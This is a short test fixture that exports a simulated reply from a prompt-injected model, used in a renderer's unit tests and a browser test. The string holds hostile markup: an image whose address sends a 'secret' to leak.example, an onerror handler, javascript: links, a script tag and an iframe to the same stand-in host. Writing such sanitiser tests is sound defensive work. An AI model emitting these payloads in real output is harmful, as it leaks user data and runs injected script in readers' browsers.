// An answer an injected model could write (issue 34), for the renderer's unit
// tests and the Companion tab's browser test: raw HTML, an image whose address
// carries data, javascript: links, a code fence, beside one real link.
export const HOSTILE = [
  'Here is **your list**:',
  '',
  '<img src="https://leak.example/img?q=secret" onerror="window.__pwned=1">',
  '',
  '![x](https://leak.example/?q=secret) and [click me](javascript:window.__pwned=1) or <javascript:window.__pwned=1>',
  '',
  '- read [the docs](https://docs.example.com/start?lang=en)',
  '- `inline` <script>window.__pwned=1</script>',
  '',
  '```html',
  '<iframe src="https://leak.example/frame"></iframe>',
  '```',
].join('\n');
